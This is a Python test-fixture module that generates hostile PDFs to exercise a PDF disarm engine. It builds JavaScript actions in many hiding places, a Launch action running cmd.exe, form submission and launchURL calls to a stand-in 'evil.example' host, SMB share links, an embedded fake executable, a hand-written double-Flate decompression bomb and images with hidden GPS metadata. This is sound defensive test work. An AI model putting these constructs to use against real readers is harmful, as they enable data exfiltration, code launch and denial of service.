"""Hostile PDFs generated in code for the PDF disarm tests (no committed binaries).

Each builder returns the bytes of a small PDF with one construct the disarm engine must
remove (or keep).  Most are made with pikepdf; the incremental update, the broken xref
and the decompression bomb are written byte by byte, as an attacker would.
"""

from __future__ import annotations

import array
import io
import re
import struct
import zlib
from typing import Any

import pikepdf
from fontTools.ttLib import newTable
from PIL import Image
from pikepdf import Array, Dictionary, Name, Pdf, String

LINE = "Kakehashi page {page} line {line}"


def text_pdf(pages: int = 1, lines: int = 3) -> Pdf:
    """A Pdf whose pages draw known text in Helvetica (for text-survives checks)."""
    pdf = Pdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                        BaseFont=Name.Helvetica))
    for p in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        ops = b"".join(
            b"BT /F1 11 Tf 50 %d Td (%s) Tj ET\n" % (800 - 14 * i, LINE.format(page=p + 1, line=i).encode())
            for i in range(lines))
        page.obj.Contents = pdf.make_stream(ops)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    return pdf


def to_bytes(pdf: Pdf, **save: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def page_texts(data: bytes) -> list[list[str]]:
    """The strings each page shows with Tj, read back with pikepdf's content parser."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return [[str(instr.operands[0]) for instr in pikepdf.parse_content_stream(page)
                 if isinstance(instr, pikepdf.ContentStreamInstruction) and str(instr.operator) == "Tj"]
                for page in pdf.pages]


def _js(code: str = "app.alert('pwned')") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def _link(pdf: Pdf, action: Dictionary, rect: tuple[int, int, int, int] = (50, 50, 200, 70)) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(list(rect)),
                                        Border=Array([0, 0, 0]), A=action))


def _annotate(pdf: Pdf, *annots: Dictionary, page: int = 0) -> None:
    pdf.pages[page].obj.Annots = Array(list(annots))


# --- JavaScript in its usual and unusual homes ------------------------------------

def js_openaction() -> bytes:
    pdf = text_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(_js())
    return to_bytes(pdf)


def js_page_aa() -> bytes:
    pdf = text_pdf()
    pdf.pages[0].obj.AA = Dictionary(O=_js("this.exportDataObject({cName:'x', nLaunch:2})"))
    return to_bytes(pdf)


def js_names_tree() -> bytes:
    pdf = text_pdf()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(
        Names=Array([String("init"), pdf.make_indirect(_js())])))
    return to_bytes(pdf)


def js_in_object_stream() -> bytes:
    """JavaScript on a link annotation, saved so every dictionary sits in an ObjStm."""
    pdf = text_pdf()
    _annotate(pdf, _link(pdf, _js()))
    return to_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def js_incremental_update() -> bytes:
    """A clean file, then a hand-written update section that swaps in a catalog with an
    /OpenAction pointing at a JavaScript object that exists only in the update."""
    base = to_bytes(text_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with pikepdf.open(io.BytesIO(base)) as pdf:
        root, pages, size = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0], int(pdf.trailer.Size)
    prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    js = size
    body = bytearray(base)
    offsets = {}
    offsets[root] = len(body) + 1
    body += b"\n%d 0 obj\n<< /Type /Catalog /Pages %d 0 R /OpenAction %d 0 R >>\nendobj\n" % (root, pages, js)
    offsets[js] = len(body)
    body += b"%d 0 obj\n<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\)) >>\nendobj\n" % js
    xref = len(body)
    body += b"xref\n"
    for num in sorted(offsets):
        body += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    body += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (js + 1, root, prev, xref)
    return bytes(body)


def js_obfuscated_name() -> bytes:
    """/JS spelled /J#53 and /JavaScript as /Java#53cript: same names to a parser."""
    pdf = text_pdf()
    _annotate(pdf, _link(pdf, _js()))
    raw = to_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return raw.replace(b"/JS ", b"/J#53 ").replace(b"/JavaScript", b"/Java#53cript")


def js_indirect_name() -> bytes:
    """A link whose action type is an indirect object: /S 7 0 R, 7 0 obj /JavaScript."""
    pdf = text_pdf()
    action = Dictionary(S=pdf.make_indirect(Name.JavaScript), JS=pdf.make_stream(b"app.alert(1)"))
    _annotate(pdf, _link(pdf, action))
    return to_bytes(pdf)


def lookalike_names() -> bytes:
    """Keys and values that byte scanners read as /OpenAction and /Launch."""
    pdf = text_pdf()
    pdf.Root[Name("/OpenAction`6")] = pdf.make_indirect(_js())
    pdf.pages[0].obj[Name("/Foo")] = Name("/Launch(x)")
    return to_bytes(pdf)


def js_next_chain() -> bytes:
    """An outline whose GoTo (kept) chains via /Next to JavaScript (removed)."""
    pdf = text_pdf(pages=2)
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=Array([_js()]))
    item = pdf.make_indirect(Dictionary(Title=String("Chapter 2"), A=goto))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines
    return to_bytes(pdf)


# --- other actions ----------------------------------------------------------------

def launch_action() -> bytes:
    pdf = text_pdf()
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"),
                        Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    _annotate(pdf, _link(pdf, launch))
    return to_bytes(pdf)


def gotor_outline() -> bytes:
    """A bookmark that opens another file (GoToR): the bookmark stays, its action goes."""
    pdf = text_pdf()
    action = Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0, Name.Fit]))
    item = pdf.make_indirect(Dictionary(Title=String("Open me"), A=action))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines
    return to_bytes(pdf)


def named_actions() -> bytes:
    """NextPage (kept) and Print (removed) named actions."""
    pdf = text_pdf(pages=2)
    _annotate(pdf,
              _link(pdf, Dictionary(S=Name.Named, N=Name.NextPage), (50, 50, 100, 70)),
              _link(pdf, Dictionary(S=Name.Named, N=Name.Print), (150, 50, 200, 70)))
    return to_bytes(pdf)


SAFE_URI = "https://www.city.example.lg.jp/"
UNSAFE_URIS = ("javascript:app.alert(1)", "file:///C:/Windows/System32/calc.exe",
               "data:text/html,<script>alert(1)</script>", "smb://evil/share",
               "\\\\evil\\share\\doc.pdf", "  JavaScript:alert(1)")


def uris() -> bytes:
    pdf = text_pdf()
    links = [_link(pdf, Dictionary(S=Name.URI, URI=String(SAFE_URI)), (10, 10, 20, 20))]
    links += [_link(pdf, Dictionary(S=Name.URI, URI=String(u)), (30 + 20 * i, 10, 40 + 20 * i, 20))
              for i, u in enumerate(UNSAFE_URIS)]
    _annotate(pdf, *links)
    pdf.Root.URI = Dictionary(Base=String("file:///C:/"))
    return to_bytes(pdf)


def text_mentions_js() -> bytes:
    """Benign: a https link, and a title string that reads like a hostile name."""
    pdf = text_pdf()
    _annotate(pdf, _link(pdf, Dictionary(S=Name.URI, URI=String(SAFE_URI))))
    pdf.docinfo.Title = String("How we remove /JavaScript and /Launch (guide)")
    return to_bytes(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)


# --- embedded files, forms, multimedia --------------------------------------------

PAYLOAD = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode"


def embedded_file_names() -> bytes:
    pdf = text_pdf()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(  # type: ignore[call-arg]  # stub lists every keyword
        pdf, PAYLOAD, mime_type="application/x-msdownload")
    return to_bytes(pdf)


def file_attachment_annot() -> bytes:
    pdf = text_pdf()
    spec = pikepdf.AttachedFileSpec(pdf, PAYLOAD, filename="readme.exe")  # type: ignore[call-arg]
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                         Rect=Array([50, 50, 70, 70]), FS=spec.obj,
                                         Name=Name.PushPin))
    _annotate(pdf, annot)
    return to_bytes(pdf)


def xfa_form() -> bytes:
    """An XFA form, plus a widget whose /A submits the form somewhere."""
    pdf = text_pdf()
    xdp = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')
    widget = pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), Rect=Array([50, 50, 150, 80]),
        A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/collect")))))
    _annotate(pdf, widget)
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=xdp, NeedsRendering=True)
    return to_bytes(pdf)


def multimedia() -> bytes:
    """RichMedia, Screen and 3D annotations, a U3D stream and a PostScript XObject."""
    pdf = text_pdf()
    u3d = pdf.make_stream(b"U3D\x00" * 16, Type=Name("/3D"), Subtype=Name.U3D)
    ps = pdf.make_stream(b"%!PS\n(pwned) print\n", Type=Name.XObject, Subtype=Name.PS)
    page = pdf.pages[0]
    page.obj.Resources.XObject = Dictionary(P0=ps)
    page.obj.Contents = pdf.make_stream(page.obj.Contents.read_bytes() + b"q /P0 Do Q\n")
    annots = [
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 10, 10]),
                                     RichMediaContent=Dictionary())),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 10, 10]),
                                     A=Dictionary(S=Name.Rendition, OP=0))),
        Dictionary({"/Type": Name.Annot, "/Subtype": Name("/3D"), "/Rect": Array([0, 0, 10, 10]), "/3DD": u3d}),
    ]
    _annotate(pdf, *annots)
    return to_bytes(pdf)


# --- encryption -------------------------------------------------------------------

def user_password() -> bytes:
    return to_bytes(text_pdf(), encryption=pikepdf.Encryption(user="secret", owner="owner"))


def owner_password_only() -> bytes:
    return to_bytes(text_pdf(), encryption=pikepdf.Encryption(
        user="", owner="owner", allow=pikepdf.Permissions(extract=False, print_highres=False)))


# --- structure-level tricks -------------------------------------------------------

JUNK_HEAD = b"MZ-not-a-pdf " * 40 + b"\n"
JUNK_TAIL = b"\n<script>alert('after EOF')</script>\n" * 10


def junk_around() -> bytes:
    return JUNK_HEAD + to_bytes(text_pdf()) + JUNK_TAIL


def broken_xref() -> bytes:
    """startxref points into the middle of nowhere: qpdf must rebuild the xref."""
    raw = to_bytes(text_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return re.sub(rb"startxref\s+\d+", b"startxref\n999999", raw)


class _Bits:
    """Deflate bit writer: fields packed LSB first, Huffman codes MSB first."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = 0
        self.n = 0

    def put(self, value: int, nbits: int) -> None:
        self.acc |= value << self.n
        self.n += nbits
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def code(self, code: int, nbits: int) -> None:
        self.put(int(format(code, f"0{nbits}b")[::-1], 2), nbits)


def zeros_zlib(size: int) -> tuple[bytes, int]:
    """A zlib stream inflating to about ``size`` zero bytes, written directly (a
    fixed-Huffman block of "repeat 258" codes) instead of compressing ``size`` bytes."""
    b = _Bits()
    b.put(1, 1)
    b.put(1, 2)  # final block, fixed Huffman
    b.code(0x30, 8)  # literal 0x00
    units = 0

    def repeat() -> None:  # length 258 (code 285), distance 1 (code 0)
        b.code(0b11000101, 8)
        b.put(0, 5)

    while b.n:
        repeat()
        units += 1
    head = bytes(b.out)
    b.out.clear()
    for _ in range(8):  # 8 x 13 bits = 13 whole bytes: a pattern that tiles
        repeat()
    pattern = bytes(b.out)
    b.out.clear()
    reps = max(0, (size - 1 - units * 258) // (8 * 258))
    units += 8 * reps
    b.code(0, 7)  # end of block
    if b.n:
        b.put(0, 8 - b.n)
    n = 1 + units * 258
    adler = ((n % 65521) << 16) | 1  # adler32 of n zero bytes
    return b"\x78\x01" + head + pattern * reps + bytes(b.out) + struct.pack(">I", adler), n


def double_flate_bomb(size: int = 1 << 30) -> bytes:
    """A page whose content is Flate(Flate(``size`` zeros)): ~13 KB inflating to 1 GiB."""
    inner, _ = zeros_zlib(size)
    pdf = text_pdf()
    bomb = pikepdf.Stream(pdf, zlib.compress(inner, 9))
    bomb.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].obj.Contents = Array([pdf.pages[0].obj.Contents, bomb])
    # Written as is: no decoding, no recompressing (either would inflate it here).
    return to_bytes(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


# --- images and fonts -------------------------------------------------------------

GPS = {1: "N", 2: (35.0, 41.0, 22.5), 3: "E", 4: (139.0, 41.0, 30.0)}
COMMENT = b"secret comment from the camera"
TRAILER = b"HIDDEN-15-BYTES"  # 15 bytes after the JPEG's end marker


def photo(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    """A picture with structure (gradients), so re-encoding can be compared."""
    g = Image.linear_gradient("L").resize(size)
    if mode == "L":
        return g
    rgb = Image.merge("RGB", [g, g.transpose(Image.Transpose.FLIP_LEFT_RIGHT), g.rotate(90).resize(size)])
    return rgb.convert(mode)


def jpeg_with_metadata(im: Image.Image | None = None) -> bytes:
    """A JPEG carrying EXIF with a GPS position, a comment and 15 trailing bytes."""
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x8825] = GPS
    out = io.BytesIO()
    (im or photo()).save(out, "JPEG", quality=90, exif=exif, comment=COMMENT)
    return out.getvalue() + TRAILER


def _image_page(pdf: Pdf, *xobjects: pikepdf.Stream) -> None:
    page = pdf.add_blank_page(page_size=(595, 842))
    names = {f"/Im{i}": x for i, x in enumerate(xobjects)}
    page.obj.Resources = Dictionary(XObject=Dictionary(names))
    page.obj.Contents = pdf.make_stream(b"".join(
        b"q 200 0 0 150 %d 500 cm %s Do Q\n" % (50 + 210 * i, n.encode()) for i, n in enumerate(names)))


def image_xobject(pdf: Pdf, data: bytes, filter_: str | None, width: int, height: int,
                  cs: object = Name.DeviceRGB, bpc: int = 8, **extra: object) -> pikepdf.Stream:
    keys: dict[str, object] = dict(Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height,
                                   BitsPerComponent=bpc, **extra)
    if cs is not None:
        keys["ColorSpace"] = cs
    if filter_:
        keys["Filter"] = Name(filter_)
    s = pikepdf.Stream(pdf, data)
    for k, v in keys.items():
        s[Name("/" + k)] = v
    return pdf.make_indirect(s)


def jpeg_xobject_pdf() -> bytes:
    """The same JPEG a phone wrote, placed as an image XObject."""
    pdf = text_pdf()
    img = image_xobject(pdf, jpeg_with_metadata(), "/DCTDecode", 64, 48,
                        Metadata=pdf.make_stream(b"<x:xmpmeta>GPS 35.68</x:xmpmeta>",
                                                 Type=Name.Metadata, Subtype=Name.XML))
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im0=img)
    pdf.pages[0].obj.Contents = pdf.make_stream(pdf.pages[0].obj.Contents.read_bytes()
                                                + b"q 200 0 0 150 50 500 cm /Im0 Do Q\n")
    return to_bytes(pdf)


def flate_image_pdf() -> tuple[bytes, bytes]:
    """A Flate RGB image with a PNG predictor and 1,000 bytes hidden after its rows;
    also returns the true samples."""
    pixels = photo().tobytes()
    rows = [pixels[i:i + 64 * 3] for i in range(0, len(pixels), 64 * 3)]
    predicted = b"".join(b"\x00" + r for r in rows) + b"\x00" + b"SECRET-AFTER-ROWS" * 60
    pdf = Pdf.new()
    img = image_xobject(pdf, zlib.compress(predicted), "/FlateDecode", 64, 48,
                        DecodeParms=Dictionary(Predictor=15, Colors=3, Columns=64, BitsPerComponent=8))
    _image_page(pdf, img)
    # Written as is: qpdf would otherwise decode the predictor on save.
    return to_bytes(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none), pixels


def ccitt_and_jpx_pdf() -> bytes:
    """A Group 4 fax image (a black box on white) and a JPEG 2000 image with alpha."""
    fax = Image.new("1", (64, 32), 1)
    fax.paste(0, (10, 5, 30, 20))
    buf = io.BytesIO()
    fax.save(buf, "TIFF", compression="group4")
    tif = Image.open(io.BytesIO(buf.getvalue()))
    start, length = tif.tag_v2[273][0], tif.tag_v2[279][0]
    g4 = buf.getvalue()[start:start + length]
    jpx = io.BytesIO()
    photo(mode="RGBA").save(jpx, "JPEG2000")
    pdf = Pdf.new()
    ccitt = image_xobject(pdf, g4, "/CCITTFaxDecode", 64, 32, Name.DeviceGray, 1,
                          DecodeParms=Dictionary(K=-1, Columns=64, Rows=32, BlackIs1=True))
    jp2 = image_xobject(pdf, jpx.getvalue(), "/JPXDecode", 64, 48, None, 8, SMaskInData=1)
    _image_page(pdf, ccitt, jp2)
    return to_bytes(pdf)


def jbig2_pdf() -> bytes:
    """A scanned page as JBIG2 (a hand-made generic-region segment), with globals."""
    pdf = text_pdf()
    # Segment header: number, flags (38: immediate lossless generic region), referred
    # segments, page, data length; then a region info and a generic region header.
    region = struct.pack(">IIIIB", 64, 32, 0, 0, 0) + b"\x00" + bytes([3, 0xFF, 0xFD, 0xFF, 0x02, 0xFE, 0xFE, 0xFE])
    data = struct.pack(">IBBBI", 1, 38, 0, 1, len(region) + 20) + region + b"\x00" * 20
    globals_ = pdf.make_stream(struct.pack(">IBBBI", 0, 0, 1, 0, 0))
    img = image_xobject(pdf, data, "/JBIG2Decode", 64, 32, Name.DeviceGray, 1,
                        DecodeParms=Dictionary(JBIG2Globals=globals_))
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im0=img)
    pdf.pages[0].obj.Contents = pdf.make_stream(pdf.pages[0].obj.Contents.read_bytes()
                                                + b"q 595 0 0 842 0 0 cm /Im0 Do Q\n")
    return to_bytes(pdf)


def inline_images_pdf() -> bytes:
    """Page content with a raw inline image (bytes hidden after its samples) and a
    JPEG inline image (with its comment and trailing bytes)."""
    pdf = text_pdf()
    small = photo((8, 6))
    jpeg = jpeg_with_metadata(small)
    ops = (b"q 80 0 0 60 50 300 cm BI /W 8 /H 6 /CS /RGB /BPC 8 /F /AHx ID "
           + (small.tobytes() + b"HIDDEN").hex().encode() + b"> EI Q\n"
           + b"q 80 0 0 60 150 300 cm BI /W 8 /H 6 /CS /RGB /BPC 8 /F [/AHx /DCT] ID "
           + jpeg.hex().encode() + b"> EI Q\n")
    pdf.pages[0].obj.Contents = pdf.make_stream(pdf.pages[0].obj.Contents.read_bytes() + ops)
    return to_bytes(pdf)


# Fonts: one glyph ("A", a triangle) each, embedded and used to draw "AAA".

def _font_page(pdf: Pdf, font: Dictionary) -> None:
    page = pdf.add_blank_page(page_size=(595, 842))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
    page.obj.Contents = pdf.make_stream(b"BT /F1 24 Tf 50 700 Td (AAA) Tj ET\n")


def _font_dict(pdf: Pdf, subtype: str, name: str, key: str, program: pikepdf.Stream) -> Dictionary:
    descriptor = pdf.make_indirect(Dictionary(
        Type=Name.FontDescriptor, FontName=Name("/" + name), Flags=32, FontBBox=Array([0, 0, 500, 700]),
        ItalicAngle=0, Ascent=700, Descent=0, CapHeight=700, StemV=80, **{key: program}))
    return Dictionary(Type=Name.Font, Subtype=Name(subtype), BaseFont=Name("/" + name), FirstChar=65,
                      LastChar=65, Widths=Array([500]), FontDescriptor=descriptor,
                      Encoding=Name.WinAnsiEncoding)


def truetype_font(hinted: bool = True) -> bytes:
    """A TrueType font built with fontTools, with fpgm, prep, cvt and glyph instructions."""
    from fontTools.fontBuilder import FontBuilder
    from fontTools.pens.ttGlyphPen import TTGlyphPen
    from fontTools.ttLib.tables import ttProgram

    fb = FontBuilder(1000, isTTF=True)
    fb.setupGlyphOrder([".notdef", "A"])
    fb.setupCharacterMap({65: "A"})
    pen = TTGlyphPen(None)
    pen.moveTo((0, 0))
    pen.lineTo((500, 0))
    pen.lineTo((250, 700))
    pen.closePath()
    glyph = pen.glyph()
    fb.setupGlyf({".notdef": TTGlyphPen(None).glyph(), "A": glyph})
    fb.setupHorizontalMetrics({".notdef": (500, 0), "A": (500, 0)})
    fb.setupHorizontalHeader(ascent=800, descent=-200)
    fb.setupNameTable({"familyName": "KkTest", "styleName": "Regular"})
    fb.setupOS2()
    fb.setupPost()
    font = fb.font
    if hinted:
        def program(asm: str) -> ttProgram.Program:
            p = ttProgram.Program()
            p.fromAssembly(asm)
            return p
        for tag, asm in (("fpgm", "PUSHB[ ]\n0\nFDEF[ ]\nENDF[ ]"), ("prep", "PUSHB[ ]\n1\nPOP[ ]")):
            table = newTable(tag)
            table.program = program(asm)
            font[tag] = table
        cvt = newTable("cvt ")
        cvt.values = array.array("h", [0, 100, 700])
        font["cvt "] = cvt
        font["glyf"]["A"].program = program("PUSHB[ ]\n0\nMDAP[1]")
        font["maxp"].maxSizeOfInstructions = 3
        font["maxp"].maxFunctionDefs = 1
    out = io.BytesIO()
    font.save(out)
    return out.getvalue()


def truetype_pdf() -> bytes:
    pdf = Pdf.new()
    data = truetype_font()
    program = pdf.make_stream(data, Length1=len(data))
    _font_page(pdf, _font_dict(pdf, "/TrueType", "KkTest-Regular", "FontFile2", program))
    return to_bytes(pdf)


def cff_font() -> bytes:
    """A bare CFF font (FontFile3 /Type1C) whose glyph has stem hints."""
    from fontTools.fontBuilder import FontBuilder
    from fontTools.pens.t2CharStringPen import T2CharStringPen
    from fontTools.ttLib import TTFont

    pen = T2CharStringPen(500, None)
    pen.moveTo((0, 0))
    pen.lineTo((500, 0))
    pen.lineTo((250, 700))
    pen.closePath()
    cs = pen.getCharString()
    cs.program = [0, 80, "hstem", 100, 80, "vstem"] + cs.program
    fb = FontBuilder(1000, isTTF=False)
    fb.setupGlyphOrder([".notdef", "A"])
    fb.setupCharacterMap({65: "A"})
    fb.setupCFF("KkCff-Regular", {"FullName": "KkCff"}, {".notdef": cs, "A": cs}, {})
    fb.setupHorizontalMetrics({".notdef": (500, 0), "A": (500, 0)})
    fb.setupHorizontalHeader()
    fb.setupNameTable({"familyName": "KkCff", "styleName": "Regular"})
    fb.setupOS2()
    fb.setupPost()
    out = io.BytesIO()
    fb.save(out)
    return TTFont(io.BytesIO(out.getvalue())).reader["CFF "]


def cff_pdf() -> bytes:
    pdf = Pdf.new()
    program = pdf.make_stream(cff_font(), Subtype=Name.Type1C)
    _font_page(pdf, _font_dict(pdf, "/Type1", "KkCff-Regular", "FontFile3", program))
    return to_bytes(pdf)


TYPE1_PROGRAM = (b"%!PS-AdobeFont-1.0: KkType1 001.000\n/FontName /KkType1 def\n"
                 b"currentfile eexec\n" + bytes(range(256)) * 4 + b"\n" + b"0" * 512 + b"\ncleartomark\n")


def type1_pdf() -> bytes:
    pdf = Pdf.new()
    clear = TYPE1_PROGRAM.index(b"eexec\n") + 6
    program = pdf.make_stream(TYPE1_PROGRAM, Length1=clear, Length2=1025, Length3=len(TYPE1_PROGRAM) - clear - 1025)
    _font_page(pdf, _font_dict(pdf, "/Type1", "KkType1", "FontFile", program))
    return to_bytes(pdf)
